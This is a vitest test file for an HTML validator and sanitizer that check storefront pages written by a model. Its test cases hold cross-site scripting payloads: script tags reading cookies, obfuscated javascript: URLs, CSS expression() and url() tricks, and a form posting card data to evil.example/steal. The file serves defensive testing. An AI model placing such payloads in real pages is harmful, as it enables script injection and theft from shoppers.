import { describe, expect, it } from "vitest";
import { PipelineError } from "./pipeline-error.ts";
import { sanitizeFragment } from "./sanitize.ts";
import { firstUnbalancedTag, MAX_BODY_BYTES, validatePage } from "./validate-page.ts";

const three = ["a", "b", "c"];
const slots = `<ul><li><wand-product handle="a"></wand-product></li><li><wand-product handle="b" data-badge="New"></wand-product></li><li><wand-product handle="c"></wand-product></li></ul>`;
const page = (markup: string) => `<section><h1>Picks</h1>${markup}</section>${slots}`;
const shop = { baseUrl: "", shopDomain: "demo.myshopify.com" };

/** The message validatePage refuses the body with, or null when it accepts it. */
function refusal(body: string): string | null {
  try {
    validatePage(body, three);
    return null;
  } catch (error) {
    expect(error).toBeInstanceOf(PipelineError);
    return (error as PipelineError).message;
  }
}

describe("validatePage", () => {
  it("accepts a well-formed body with a style block and three product slots", () => {
    expect(refusal(`<style>.x{color:red}</style>${page("<br><p>y</p><hr>")}`)).toBeNull();
  });

  it("needs at least three products", () => {
    expect(() => validatePage("<p>x</p>", ["a", "b"])).toThrow("only 2 catalog products placed; at least 3 needed");
  });

  it("bounds the size", () => {
    expect(() => validatePage(`<p>${"x".repeat(MAX_BODY_BYTES)}</p>`, three)).toThrow(/bytes; the limit is/);
  });

  it("refuses markup that is not well-formed", () => {
    expect(() => validatePage("<div><p>x</div>", three)).toThrow("page is not well-formed: </div> closes <p>");
  });
});

describe("escaped text is text: it never fails a page", () => {
  it.each([
    ["markup in a title attribute", `<p title="&lt;img src=x onerror=alert(1)&gt;">t</p>`],
    ["a script URL in a title attribute", `<a href="/pages/faq" title="javascript:alert(1)">FAQ</a>`],
    ["a placeholder in an attribute", `<p aria-label='&lt;wand-product handle="x" price="1"&gt;&lt;/wand-product&gt;'>t</p>`],
    ["an end tag in an attribute", `<div class="x" title="&lt;/div&gt;&lt;/section&gt;">t</div>`],
    ["a script element in text", `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`],
    ["an iframe and a handler in text", `<p>&lt;iframe srcdoc="x"&gt; and onclick="alert(1)"</p>`],
    ["CSS attacks in text", `<pre><code>&lt;style&gt;@import url(javascript:x); a{width:expression(1)}&lt;/style&gt;</code></pre>`],
    ["schemes and handlers as plain words", `<p>onclick=alert(1) href=javascript:x data:text/html</p>`],
    ["an unbalanced tag in text", `<p>&lt;div&gt; is never closed, &lt;/p&gt; is stray</p>`],
    ["comparisons", `<p>a &lt; b &amp;&amp; c &gt; d</p>`],
    ["markup in a product badge", `<wand-product handle="d" data-badge="&lt;b onmouseover=x&gt;New&lt;/b&gt;"></wand-product>`],
  ])("%s", (_name, markup) => {
    expect(refusal(page(markup))).toBeNull();
  });
});

describe("every real leftover fails the safety re-check", () => {
  it.each([
    "<script>alert(1)</script>", "<iframe src=\"/pages/x\"></iframe>", "<object data=\"/x\"></object>", "<embed src=\"/x\">",
    "<frame src=\"/x\">", "<meta http-equiv=\"refresh\" content=\"0;url=/x\">", "<link rel=\"stylesheet\" href=\"/x.css\">",
    "<base href=\"/\">", "<svg><circle r=\"5\"></circle></svg>", "<math><mi>x</mi></math>",
    "<form action=\"/cart/add\"><input name=\"id\" value=\"1\"><button>Buy</button></form>", "<img src=\"/x.png\" alt=\"\">",
    "<textarea>x</textarea>", "<template><p>x</p></template>", "<noscript>x</noscript>", "<video src=\"/x.mp4\"></video>",
    "<main>x</main>", "<SCRIPT>alert(1)</SCRIPT>",
  ])("element: %s", (markup) => {
    expect(refusal(page(markup))).toMatch(/^page failed the safety re-check \(<\w+> element\)$/);
  });

  it.each([
    [`<p onclick="alert(1)">a</p>`, "event handler attribute onclick on <p>"],
    [`<p ONMOUSEOVER="alert(1)">a</p>`, "event handler attribute onmouseover on <p>"],
    [`<p/onfocus=alert(1)>a</p>`, "event handler attribute onfocus on <p>"],
    [`<div srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">z</div>`, "srcdoc attribute on <div>"],
    [`<a href="javascript:alert(1)">a</a>`, "javascript: URL in href on <a>"],
    [`<a href=" JaVaScRiPt:alert(1)">a</a>`, "javascript: URL in href on <a>"],
    [`<a href="&#106;avascript:alert(1)">a</a>`, "javascript: URL in href on <a>"],
    [`<a href="java&#x09;script:alert(1)">a</a>`, "javascript: URL in href on <a>"],
    [`<a href="java&NewLine;script:alert(1)">a</a>`, "javascript: URL in href on <a>"],
    [`<a href="\u0001javascript:alert(1)">a</a>`, "javascript: URL in href on <a>"],
    [`<a href="vbscript:msgbox(1)">a</a>`, "vbscript: URL in href on <a>"],
    [`<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a>`, "data: URL in href on <a>"],
    [`<div src="javascript:alert(1)">a</div>`, "javascript: URL in src on <div>"],
    [`<div action="javascript:alert(1)">a</div>`, "javascript: URL in action on <div>"],
    [`<div style="background:url(https://evil.example/t.gif)">a</div>`, "url( in a style attribute on <div>"],
    [`<div style="background:u&#114;l(https://evil.example/t.gif)">a</div>`, "url( in a style attribute on <div>"],
    [`<div style="background:\\75 rl(https://evil.example/t.gif)">a</div>`, "url( in a style attribute on <div>"],
    [`<p style="width:expression(alert(1))">a</p>`, "expression( in a style attribute on <p>"],
    [`<p style="-moz-binding:x">a</p>`, "a script binding in a style attribute on <p>"],
    [`<style>@import "https://evil.example/a.css";</style>`, "@import in <style>"],
    [`<style>.a{background:url(https://evil.example/t.gif)}</style>`, "url( in <style>"],
    [`<style>.a{background:\\75 rl(x)}</style>`, "url( in <style>"],
    [`<style>.a{width:expression(alert(1))}</style>`, "expression( in <style>"],
    [`<style>.a{background:image-set("x.png" 1x)}</style>`, "a resource function in <style>"],
    [`<style>@font-face{font-family:x}</style>`, "@font-face in <style>"],
  ])("%s", (markup, finding) => {
    expect(refusal(page(markup))).toBe(`page failed the safety re-check (${finding})`);
  });
});

describe("the canonical product slot and nothing else", () => {
  it("accepts handle and data-badge only, with no content", () => {
    expect(refusal(page(`<div><wand-product handle="d" data-badge="Only 2 left"></wand-product></div>`))).toBeNull();
  });

  it.each([
    [`<wand-product handle="d" price="1.00"></wand-product>`, "<wand-product> with attribute price"],
    [`<wand-product handle="d" onclick="x"></wand-product>`, "event handler attribute onclick on <wand-product>"],
    [`<wand-product></wand-product>`, "<wand-product> without a handle"],
    [`<wand-product handle=" "></wand-product>`, "<wand-product> without a handle"],
    [`<wand-product handle="d">Classic Tee, only $1</wand-product>`, "text inside <wand-product>"],
    [`<wand-product handle="d"> </wand-product>`, "text inside <wand-product>"],
    [`<wand-product handle="d"><span>$1</span></wand-product>`, "<span> inside <wand-product>"],
    [`<wand-product handle="d"><!-- x --></wand-product>`, "a comment inside <wand-product>"],
  ])("refuses %s", (markup, finding) => {
    expect(refusal(page(markup))).toBe(`page failed the safety re-check (${finding})`);
  });

  it("refuses a self-closed slot: HTML leaves it open", () => {
    expect(refusal(page(`<div><wand-product handle="d"/></div>`))).toBe("page is not well-formed: </div> closes <wand-product>");
  });
});

describe("firstUnbalancedTag", () => {
  it("ignores void elements, comments and style content", () => {
    expect(firstUnbalancedTag(`<style>a>b{}</style><div><img src="x"><br/><!-- <p> --></div>`)).toBeNull();
  });

  it("finds unclosed and stray tags", () => {
    expect(firstUnbalancedTag("<div>")).toBe("<div> is never closed");
    expect(firstUnbalancedTag("<section><div><p>x</p>")).toBe("<div> is never closed");
    expect(firstUnbalancedTag("</div>")).toBe("</div> without an opening tag");
    expect(firstUnbalancedTag("<p>x</p></p>")).toBe("</p> without an opening tag");
    expect(firstUnbalancedTag("<p>x</br></p>")).toBe("</br> without an opening tag");
    expect(firstUnbalancedTag("<div/>x")).toBe("<div> is never closed");
  });

  it("finds closes the parser has to imply", () => {
    expect(firstUnbalancedTag("<div><p>x</div>")).toBe("</div> closes <p>");
    expect(firstUnbalancedTag("<p>x<div>y</div></p>")).toBe("<div> implicitly closes <p>");
    expect(firstUnbalancedTag("<ul><li>a<li>b</ul>")).toBe("<li> implicitly closes <li>");
  });

  it("reads end tags in any case", () => {
    expect(firstUnbalancedTag("<DIV><P>x</p></Div>")).toBeNull();
  });
});

/**
 * The two halves of the promise, on what a model may write: the sanitizer's output always passes the
 * re-check (no false alarm on a cleaned page), and the same payloads unsanitized always fail it.
 */
describe("agreement with the sanitizer", () => {
  const hostile = [
    `<script>alert(document.cookie)</script><p>after</p>`,
    `<svg onload="alert(1)"><circle r="5"/></svg><svg/onload=alert(2)>`,
    `<img src="x" onerror="alert(1)">`,
    `<p onclick="alert(1)" onmouseover="alert(2)">hover</p>`,
    `<a href="javascript:alert(1)">win</a><a href=" JaVaScRiPt:alert(2)">x</a><a href="&#106;avascript:alert(3)">y</a>`,
    `<a href="data:text/html,<script>alert(1)</script>">d</a>`,
    `<style>.a{width:expression(alert(1));}</style><p style="width:expression(alert(2))">x</p>`,
    `<style>.b{background:url(javascript:alert(1));}</style><div style="background-image:url('javascript:alert(2)')">y</div>`,
    `<style>@import url(https://evil.example/a.css); .c{background:\\75 rl(https://evil.example/t.gif);}</style>`,
    `<style>.d{color:red}</style><script>alert(1)</script></style></style><style>.e{}</style ><img src=x onerror=alert(2)></style>`,
    `<iframe srcdoc="<script>alert(1)</script>"></iframe><div srcdoc="x">z</div>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y"><base href="https://evil.example/">`,
    `<form action="https://evil.example/steal" method="post"><input name="card"><button>Pay</button></form>`,
    `<li><wand-product handle="x" price="1.00">Only $1 <form action="/cart/add"><input name="id" value="9"></form></wand-product></li>`,
    `<div><p>unclosed <section>x</div><p>a<ul><li>b</ul></p><table><tr><td>c</table>`,
  ];

  it.each(hostile)("refuses it raw and accepts it sanitized: %s", (payload) => {
    expect(refusal(page(payload))).not.toBeNull();
    const cleaned = sanitizeFragment(page(payload), shop).html;
    expect(refusal(cleaned)).toBeNull();
  });

  it.each([
    [`<p title="&lt;img src=x onerror=alert(1)&gt;">t</p>`, `title="&lt;img src=x onerror=alert(1)&gt;"`],
    [`<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`, `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`],
    [`<a href="/pages/faq" title="javascript:alert(1)">FAQ</a>`, `title="javascript:alert(1)"`],
  ])("keeps escaped text through the sanitizer and passes it: %s", (payload, text) => {
    const cleaned = sanitizeFragment(page(payload), shop).html;
    expect(cleaned).toContain(text);
    expect(refusal(cleaned)).toBeNull();
  });

  // Every HTML element: the re-check allows exactly the elements the sanitizer keeps.
  const VOID = new Set(["area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"]);
  const ELEMENTS = [
    "a", "abbr", "address", "area", "article", "aside", "audio", "b", "base", "bdi", "bdo", "blockquote", "body", "br", "button",
    "canvas", "caption", "cite", "code", "col", "colgroup", "data", "datalist", "dd", "del", "details", "dfn", "dialog", "div",
    "dl", "dt", "em", "embed", "fieldset", "figcaption", "figure", "footer", "form", "h1", "h2", "h3", "h4", "h5", "h6", "head",
    "header", "hgroup", "hr", "html", "i", "iframe", "img", "input", "ins", "kbd", "label", "legend", "li", "link", "main", "map",
    "mark", "menu", "meta", "meter", "nav", "noscript", "object", "ol", "optgroup", "option", "output", "p", "picture", "pre",
    "progress", "q", "rp", "rt", "ruby", "s", "samp", "script", "search", "section", "select", "slot", "small", "source", "span",
    "strong", "sub", "summary", "sup", "table", "tbody", "td", "template", "textarea", "tfoot", "th", "thead", "time", "title",
    "tr", "track", "u", "ul", "var", "video", "wbr", "svg", "math", "marquee", "xmp", "plaintext", "frame", "frameset", "portal",
  ];

  it.each(ELEMENTS)("<%s>", (name) => {
    const attributes = name === "a" ? ` href="/pages/x"` : "";
    const markup = VOID.has(name) ? `<${name}${attributes}>` : `<${name}${attributes}>x</${name}>`;
    const kept = new RegExp(`<${name}[\\s>]`).test(sanitizeFragment(markup, shop).html);
    const allowed = !/safety re-check/.test(refusal(page(markup)) ?? "");
    expect(allowed).toBe(kept);
  });
});
